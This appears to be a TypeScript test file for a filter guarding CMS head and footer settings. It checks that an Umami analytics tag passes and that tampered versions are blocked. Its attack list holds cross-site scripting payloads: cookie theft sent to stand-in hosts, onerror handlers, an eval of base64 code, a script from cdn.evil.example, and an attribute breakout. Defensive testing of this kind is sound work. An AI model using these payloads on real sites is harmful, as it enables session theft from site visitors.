/**
 * Issue 14, session 33 (adm33b): a self-hosted Umami's tag (tag-snippets.ts SELF_HOSTED_UMAMI: its `script.js` on
 * a named host with a UUID `data-website-id`) saved in a CMS's head/footer setting, alone or beside other vendors'
 * snippets, passes; the same tag with a script, handler, eval, a foreign source or a breakout beside or in it, in
 * the same fields, is blocked.
 */
import { testCarriers, type Carrier } from './carrier-verdicts.js';

const form = (host: string, path: string, pairs: (v: string) => [string, string][]): Carrier => (v) => ({
  method: 'POST',
  path,
  query: '',
  headers: { Host: host, 'Content-Type': 'application/x-www-form-urlencoded', Origin: `https://${host}`, Referer: `https://${host}${path}` },
  body: new URLSearchParams(pairs(v)).toString(),
});
const json = (method: string, host: string, path: string, make: (v: string) => unknown): Carrier => (v) => ({
  method,
  path,
  query: '',
  headers: { Host: host, 'Content-Type': 'application/json', Origin: `https://${host}` },
  body: JSON.stringify(make(v)),
});

const CARRIERS: Record<string, Carrier> = {
  'wp header': form('blog.example.org', '/wp-admin/options-general.php', (v) => [['ihaf_insert_header', v], ['ihaf_insert_body', ''], ['ihaf_insert_footer', ''], ['_wpnonce', '2a2eba75f6'], ['submit', 'Save']]),
  'ghost head': json('PUT', 'blog.example.org', '/ghost/api/admin/settings/', (v) => ({ settings: [{ key: 'codeinjection_head', value: v }] })),
  'hubspot head': json('PUT', 'www.example.com', '/settings/v1/domains/head-html', (v) => ({ headHtml: v, footerHtml: '', domain: 'www.example.com' })),
  'shopify layout': json('PUT', 'shop.example.com', '/admin/api/2024-04/themes/246902250751/assets.json', (v) => ({
    asset: { key: 'layout/theme.liquid', value: `<!doctype html>\n<html lang="{{ request.locale.iso_code }}">\n<head>\n${v}\n  <meta charset="utf-8">\n  <title>{{ page_title }}</title>\n  {{ content_for_header }}\n</head>\n<body>\n  {{ content_for_layout }}\n</body>\n</html>` },
  })),
};

const ID = '40f62737-5e6a-43d8-af83-a2edffe5360e';
const UMAMI = `<script async src="https://umami.shop.example/script.js" data-website-id="${ID}"></script>`;
const STATS = `\t<script defer src="https://stats.blog.example.org/script.js" data-website-id="${ID}"></script>`;
const GTM = "<!-- Google Tag Manager -->\n<script>(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':\nnew Date().getTime(),event:'gtm.js'});var f=d.getElementsByTagName(s)[0],\nj=d.createElement(s),dl=l!='dataLayer'?'&l='+l:'';j.async=true;j.src=\n'https://www.googletagmanager.com/gtm.js?id='+i+dl;f.parentNode.insertBefore(j,f);\n})(window,document,'script','dataLayer','GTM-K7Q2ZP4');</script>\n<!-- End Google Tag Manager -->";
const HOTJAR = "<script>\n    (function(h,o,t,j,a,r){\n        h.hj=h.hj||function(){(h.hj.q=h.hj.q||[]).push(arguments)};\n        h._hjSettings={hjid:1687573,hjsv:6};\n        a=o.getElementsByTagName('head')[0];\n        r=o.createElement('script');r.async=1;\n        r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;\n        a.appendChild(r);\n    })(window,document,'https://static.hotjar.com/c/hotjar-','.js?sv=');\n</script>";

const BENIGN: [string, string][] = [];
for (const c of Object.keys(CARRIERS)) for (const v of [UMAMI, STATS, `${GTM}\n${UMAMI}`, `${HOTJAR}\r\n${STATS}`]) BENIGN.push([c, v]);

const ATTACKS: [string, string][] = [];
for (const c of Object.keys(CARRIERS))
  for (const v of [
    `${UMAMI}\n<script>new Image().src='//x/?'+document.cookie</script>`,
    `${GTM}\n${UMAMI}<script>new Image().src='//x.example/?'+document.cookie</script>`,
    UMAMI.replace('></script>', " onerror=\"new Image().src='//x/?'+document.cookie\"></script>"),
    `${UMAMI}<img src=x onerror=alert(document.cookie)>`,
    `${UMAMI}\n<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>`,
    `${UMAMI}\n<script async src="https://cdn.evil.example/x.js"></script><script>alert(document.domain)</script>`,
    UMAMI.replace(`${ID}"`, `${ID}"></script><script>alert(document.cookie)</script><script x="`),
  ])
    ATTACKS.push([c, v]);

testCarriers('a self-hosted Umami in a head setting (adm33b)', 'passes alone and beside other vendors\u2019 snippets', CARRIERS, BENIGN, ATTACKS);
